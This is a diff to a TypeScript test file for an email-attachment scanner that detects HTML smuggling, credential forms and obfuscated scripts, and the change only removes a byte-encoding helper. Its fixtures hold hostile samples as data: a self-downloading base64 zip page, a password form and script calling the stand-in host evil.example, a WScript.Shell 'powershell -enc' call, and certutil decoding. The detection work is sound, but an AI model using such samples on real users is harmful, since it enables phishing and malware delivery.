@@ -3,14 +3,13 @@ import { describe, expect, it } from 'vitest';
 import { readHtmlFacts } from '../../../../../core/mail/attachment/script/html-facts.ts';
 import { readScriptFacts } from '../../../../../core/mail/attachment/script/script-facts.ts';
 
-const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
 const kinds = (facts: readonly { kind: string }[]): string[] => facts.map(({ kind }) => kind);
 
 describe('a web page', () => {
   it('that puts a file together out of its own text is found out, with what is hidden in it', () => {
     const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(3000, 7)]).toString('base64');
     const page = `<html><body><script>var d=atob("${zip}");var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click()</script>`;
-    expect(readHtmlFacts(bytes(page))).toEqual([
+    expect(readHtmlFacts(page)).toEqual([
       { kind: 'html-smuggling', detail: 'atob( new Blob .download' },
       { kind: 'html-smuggling', detail: `base64 ${zip.length} = application/zip` },
       { kind: 'html-script', detail: '' },
@@ -20,7 +19,7 @@ describe('a web page', () => {
   it('that asks for a password says where it goes; remote scripts are named', () => {
     const page =
       '<!doctype html><script src="https://evil.example/a.js"></script><form action="https://evil.example/take"><input name=p type="password"></form>';
-    expect(readHtmlFacts(bytes(page))).toEqual([
+    expect(readHtmlFacts(page)).toEqual([
       { kind: 'html-script', detail: 'https://evil.example/a.js' },
       { kind: 'html-form', detail: 'https://evil.example/take' },
     ]);
@@ -31,40 +30,40 @@ describe('a web page', () => {
       Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
       Buffer.alloc(2000),
     ]).toString('base64');
-    expect(readHtmlFacts(bytes(`<html><body><p>ご連絡</p><img src="data:image/png;base64,${png}">`))).toEqual([]);
-    expect(readHtmlFacts(bytes('plain text'))).toEqual([]);
+    expect(readHtmlFacts(`<html><body><p>ご連絡</p><img src="data:image/png;base64,${png}">`)).toEqual([]);
+    expect(readHtmlFacts('plain text')).toEqual([]);
   });
 });
 
 describe('a script', () => {
   it('says what it makes use of, and that it hides it', () => {
     const plain = 'var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -enc AAAABBBBCCCCDDDDEEEE");';
-    expect(readScriptFacts(bytes(plain), 'a.js')).toEqual([
+    expect(readScriptFacts(plain, 'a.js')).toEqual([
       { kind: 'script', detail: 'WScript.Shell, ActiveXObject, PowerShell, -EncodedCommand' },
     ]);
     const hidden = `x = ${Array.from({ length: 100 }, (_, at) => `Chr(${at})`).join(' & ')}`;
-    expect(kinds(readScriptFacts(bytes(hidden), 'a.vbs'))).toEqual(['script', 'script-obfuscated']);
-    expect(readScriptFacts(bytes('@echo off\r\ncertutil -decode a b'), 'readme.txt')).toEqual([
+    expect(kinds(readScriptFacts(hidden, 'a.vbs'))).toEqual(['script', 'script-obfuscated']);
+    expect(readScriptFacts('@echo off\r\ncertutil -decode a b', 'readme.txt')).toEqual([
       { kind: 'script', detail: 'certutil' },
     ]);
   });
 
   it('is no script by the words that an article about scripts uses', () => {
-    expect(readScriptFacts(bytes('PowerShell を使った攻撃についての講演のご案内'), '案内.txt')).toEqual([]);
+    expect(readScriptFacts('PowerShell を使った攻撃についての講演のご案内', '案内.txt')).toEqual([]);
   });
 
   it('never throws; twice as much hostile text takes about twice as long', () => {
     fc.assert(
       fc.property(fc.string({ maxLength: 3000 }), (text) => {
-        readScriptFacts(bytes(text), 'a.js');
-        readHtmlFacts(bytes(`<html>${text}`));
+        readScriptFacts(text, 'a.js');
+        readHtmlFacts(`<html>${text}`);
       }),
       { numRuns: 200 },
     );
     const time = (text: string): number => {
       const from = performance.now();
-      readHtmlFacts(bytes(text));
-      readScriptFacts(bytes(text), 'a.js');
+      readHtmlFacts(text);
+      readScriptFacts(text, 'a.js');
       return performance.now() - from;
     };
     for (const piece of ['<script ', '<form action=', `${'A'.repeat(999)} `, '"+', 'Chr ( ', '<input type']) {
